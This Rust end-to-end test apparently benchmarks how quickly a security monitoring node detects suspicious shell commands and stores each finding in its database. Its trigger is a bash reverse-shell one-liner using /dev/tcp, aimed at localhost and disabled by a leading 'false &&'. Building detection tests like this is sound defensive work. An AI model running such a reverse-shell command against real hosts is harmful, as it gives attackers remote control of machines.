//! From `execve` to the finding in the collector's store.

use std::{
    process::Command,
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use e2e::{node::Node, outcome, shell};
use rusqlite::Connection;

use crate::statistics::show;

const RUNS: usize = 200;

pub(crate) fn run() -> anyhow::Result<()> {
    let node = Node::start(&[])?;
    let mut started = Vec::new();
    for i in 0..RUNS {
        let text = format!("false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # latency-{i}");
        started.push((text.clone(), SystemTime::now()));
        shell::run("/bin/bash", &["-c", &text])?;
        // Apart, so that each is a lone script and not part of a burst.
        std::thread::sleep(Duration::from_millis(10));
    }
    node.wait_for(|f| f.len() >= RUNS)?;
    let (mut from_spawn, mut from_exec) = (Vec::new(), Vec::new());
    let db = Connection::open(node.path("findings.db"))?;
    let stored: Vec<(i64, i64, String)> = db
        .prepare("SELECT stored_ns, event_ns, sha256 FROM finding")?
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)))?
        .collect::<Result<_, _>>()?;
    for (text, at) in &started {
        let hash = outcome::sha256(text.as_bytes());
        if let Some((stored_ns, event_ns, _)) = stored.iter().find(|s| s.2 == hash) {
            let spawn_ns = at.duration_since(UNIX_EPOCH)?.as_nanos() as i64;
            from_spawn.push((stored_ns - spawn_ns) as f64 / 1e6);
            from_exec.push((stored_ns - event_ns) as f64 / 1e6);
        }
    }
    println!("tier {}", node.tier);
    println!("execve to stored: {}", show(&mut from_exec, "ms"));
    println!("fork to stored:   {}", show(&mut from_spawn, "ms"));
    let _ = Command::new("sync").status();
    Ok(())
}
